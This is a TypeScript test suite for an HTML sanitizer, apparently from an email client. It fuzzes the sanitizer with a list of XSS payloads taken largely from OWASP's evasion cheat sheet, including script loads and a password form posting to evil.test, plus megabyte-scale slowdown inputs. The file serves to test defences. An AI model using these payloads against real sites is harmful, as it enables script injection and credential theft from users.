import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { type SafeHtmlOptions, safeHtml } from '../../../shared/platform/html/safe-html.ts';
import { aMail } from '../../support/a-mail.ts';

/** Hostile markup, most of it from OWASP's filter evasion cheat sheet. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.test/x.js></SCRIPT>',
  '<img src="javascript:alert(1)">',
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=javascript:alert(&quot;XSS&quot;)>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="//evil.test">x</a>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)"',
  '<img/src/onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.test"><input name=password><button>Go</button></form>',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<div style="position:fixed;top:0;background:url(javascript:alert(1))">x</div>',
  '<p class="x" id="y" onclick="alert(1)">x</p>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<link rel=stylesheet href=https://evil.test/x.css>',
  '<base href="https://evil.test/">',
  '<<SCRIPT>alert("XSS");//<</SCRIPT>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- <b> --><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<a title="&quot;><script>alert(1)</script>">x</a>',
  "<a title='\"><img src=x onerror=alert(1)>'>x</a>",
  '<a href="https://a.test" title=`x` onmouseover=alert(1)>x</a>',
  '<b\u0000><scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<template><script>alert(1)</script></template>',
  '</div></div></td></table><div>outside',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src="//evil.test/a.png">',
  '<img src="/a.png" srcset="https://evil.test/b.png 2x" alt="a">',
  '<picture><source srcset="https://evil.test/a.png"><img src="cid:a"></picture>',
  '<img data-remote-src="javascript:alert(1)" src="x">',
  '<video poster="https://evil.test/a.png" autoplay><source src="https://evil.test/a.mp4"></video>',
  '<audio src="https://evil.test/a.mp3"></audio>',
  '<body background="https://evil.test/a.png" onload="alert(1)">x</body>',
  '<table background="https://evil.test/a.png"><td background="https://evil.test/b.png">x</table>',
  '<input type="image" src="https://evil.test/a.png">',
  '<a href="https://a.test" ping="https://evil.test" download target="_blank">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="https:\n//evil.test">x</a>',
  '<p style="width:expression(alert(1))">x</p>',
  '<div style="background-image:url(https://evil.test/a.png)">x</div>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate href="#x" attributeName="href" values="#a;javascript:alert(1)" /></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  '<noscript><style></noscript><img src=x onerror=alert(1)>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  '<p><foo><div>x',
  '<a href="https://a.test/&quot;onclick=&quot;alert(1)">x</a>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&amp;lt;script&amp;gt;',
  '<?xml version="1.0"?><?php echo 1 ?>x',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
];

const TAGS =
  `a abbr b big blockquote br caption center code col colgroup dd del details div dl dt em font h1 h2 h3 h4 h5
  h6 hr i img ins kbd li mark ol p pre q s samp small span strike strong sub summary sup table tbody td tfoot th thead tr
  tt u ul var`.split(/\s+/);
const WITHOUT_END = ['br', 'hr', 'img', 'col'];
const TAG = /<(\/?)([a-z][a-z0-9]*)((?:\s+[a-z-]+(?:="[^"<>]*")?)*)\s*\/?>/g;
const PLAIN = 'title alt width height colspan rowspan align start color dir lang'.split(' ');
const ADDRESSES: Readonly<Record<string, RegExp>> = {
  href: /^(https?:\/\/|mailto:|tel:)/i,
  'data-remote-src': /^https?:\/\//i,
  rel: /^noopener noreferrer nofollow$/,
};
const PICTURES = { own: /^cid:/i, any: /^(cid:|https:\/\/)/i } as const;

/** Everything in the markup that is not allowed, as a browser would read it: an empty list for safe HTML. */
function objections(html: string, pictures: 'own' | 'any' = 'own'): string[] {
  const allowed: Readonly<Record<string, RegExp>> = { ...ADDRESSES, src: PICTURES[pictures] };
  const wrong: string[] = [];
  const open: string[] = [];
  for (const [whole, slash, tag = '', attributes = ''] of html.matchAll(TAG)) {
    if (!TAGS.includes(tag)) wrong.push(whole);
    for (const [, name = '', value = ''] of attributes.matchAll(/([a-z-]+)(?:="([^"]*)")?/g)) {
      if (!PLAIN.includes(name) && !allowed[name]?.test(value)) wrong.push(`${name}=${value}`);
    }
    if (WITHOUT_END.includes(tag)) continue;
    if (slash === '') open.push(tag);
    else if (open.pop() !== tag) wrong.push(`${whole} closes what is not open`);
  }
  if (open.length > 0) wrong.push(`left open: ${open.join(' ')}`);
  // What is left once the tags are out must be text: no angle bracket begins anything.
  if (/[<>]/.test(html.replace(TAG, ''))) wrong.push(html.replace(TAG, ''));
  return wrong;
}

const EVERY: readonly SafeHtmlOptions[] = [{ pictures: 'own' }, { pictures: 'any' }];

describe('HTML made safe', () => {
  test.each(HOSTILE)('%s becomes harmless', (html) => {
    for (const options of EVERY) {
      const safe = safeHtml(html, options);
      expect(objections(safe, options.pictures)).toEqual([]);
    }
  });

  const piece = fc.oneof(
    fc.constantFrom(...HOSTILE),
    fc.constantFrom(...TAGS.flatMap((tag) => [`<${tag}>`, `</${tag}>`, `<${tag}/>`, `<${tag} title="`])),
    fc.constantFrom('<', '>', '"', "'", '`', '=', '/', '&', ';', ' ', '\n', '\u00a0', '<p', '<!--', '-->', '</', '<x>'),
    fc.constantFrom('onerror=', 'href=', 'src=', 'javascript:', '<a ', '<img ', '<table><tr>', '<style>', '<script>'),
    fc.constantFrom(
      '&#0;',
      '&#7;',
      '&#x80;',
      '&#xd800;',
      '&lt;',
      '&#60',
      '&amp;amp;',
      '<![CDATA[',
      ']]>',
      '<svg>',
      '<math>',
    ),
    fc.string({ unit: 'grapheme', maxLength: 5 }),
  );

  test('has nothing but what is allowed, whatever it was made of, and stays as it is when made safe again', () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 16 }), fc.constantFrom(...EVERY), (pieces, options) => {
        const safe = safeHtml(pieces.join(''), options);
        expect(objections(safe, options.pictures)).toEqual([]);
        expect(safeHtml(safe, options)).toBe(safe);
      }),
      { numRuns: 5_000 },
    );
  });

  test('has nothing left that runs, loads or posts', async () => {
    const { html = '' } = await aMail('hostile-html');
    const safe = safeHtml(html);
    expect(objections(safe)).toEqual([]);
    expect(safe).not.toMatch(/\son\w+\s*=|javascript:|position:|url\(/i);
    expect(safe).toContain('<img data-remote-src="https://tracker.example/p.gif" />');
    expect(safe).toContain('<img src="cid:logo@evil" />');
    expect(safe).toContain('<p>Hello</p>');
  });

  test('loads no picture from elsewhere, and keeps its address for a reader to ask for', () => {
    expect(safeHtml('<img src="http://x.test/a.png" srcset="http://x.test/b.png 2x" alt="a">')).toBe(
      '<img data-remote-src="http://x.test/a.png" alt="a" />',
    );
    expect(safeHtml('<img src="data:image/png;base64,AAAA"><img src="//x.test/a.png">')).toBe('<img /><img />');
  });

  test('loads pictures from elsewhere where that is asked, over TLS only', () => {
    const html = '<img src="https://x.test/a.png" alt="a"><img src="http://x.test/b.png"><img src="cid:1@x">';
    expect(safeHtml(html, { pictures: 'any' })).toBe(
      '<img src="https://x.test/a.png" alt="a" /><img data-remote-src="http://x.test/b.png" /><img src="cid:1@x" />',
    );
  });

  test('keeps what people write with', () => {
    const html =
      '<p>您好，<b>请看</b> <a href="https://help.test/a?b=1&amp;c=2">这里</a>：</p><ul><li>一</li><li>二</li></ul>';
    expect(safeHtml(html)).toBe(html.replace('c=2"', 'c=2" rel="noopener noreferrer nofollow"'));
    const table = '<table><tr><td colspan="2">1 &lt; 2 &amp; "3"</td></tr></table>';
    expect(safeHtml(table)).toBe(table);
  });

  test('closes what it leaves open and opens nothing outside', () => {
    expect(safeHtml('<div><b>x')).toBe('<div><b>x</b></div>');
    expect(safeHtml('</div>x</b></td></table>')).toBe('x');
    expect(safeHtml('<b><i>x</b>y</i>')).toBe('<b><i>x</i></b>y');
  });

  test('nests a hundred elements at most, and is only its text where its maker nested without end', () => {
    const deep = safeHtml(`${'<i>'.repeat(300)}x${'</i>'.repeat(300)}`);
    expect(deep).toBe(`${'<i>'.repeat(100)}x${'</i>'.repeat(100)}`);
    expect(safeHtml(`<b>one</b><br>${'<i>'.repeat(10_000)}two`)).toBe('<p>one<br />two</p>');
  });
});

/** One megabyte of it. What takes time by the square of its length would take minutes. */
const megabyte = (text: string) => text.repeat(Math.ceil(1_048_576 / text.length));

describe('a megabyte that is made to keep us busy', () => {
  test.each([
    ...['<', '<b>', '<a>', '<a href="', '<script>', '<style>', '<!--', '<![CDATA[', '<b></i>', '</b>', '</p>', '<p>'],
    ...['&', '&#', '&lt', '<x y="<', '<x', '<table><tr><td>', '<li><ul>', '<p><x><div>', '<dd><dt>', '<svg><style>'],
    ...['<noscript>', '<div><noscript></div>', '<iframe>', '<textarea>', '<select><option>', '<object>', '<math><mi>'],
    ...['\u00a0', '\n\u00a0', '&nbsp;', '<blockquote class="gmail_quote">', '<img src="cid:', 'x '],
  ])('of %j again and again is done with', (text) => {
    const started = performance.now();
    expect(objections(safeHtml(megabyte(text)))).toEqual([]);
    expect(performance.now() - started).toBeLessThan(10_000);
  });

  test.each([
    ['opened hundreds deep and then closed wrongly', `${'<b>'.repeat(499)}${'</i>'.repeat(250_000)}`],
    ['opened without end and then closed wrongly', `${'<b>'.repeat(150_000)}${'</i>'.repeat(150_000)}`],
    ['with one tag of half a million attributes', `<a ${'x '.repeat(500_000)}>`],
    [
      'with one tag of many different attributes',
      `<a ${Array.from({ length: 90_000 }, (_, at) => `x${at}=1`).join(' ')}>`,
    ],
  ])('%s is done with', (_, html) => {
    const started = performance.now();
    expect(objections(safeHtml(html))).toEqual([]);
    expect(performance.now() - started).toBeLessThan(10_000);
  });
});
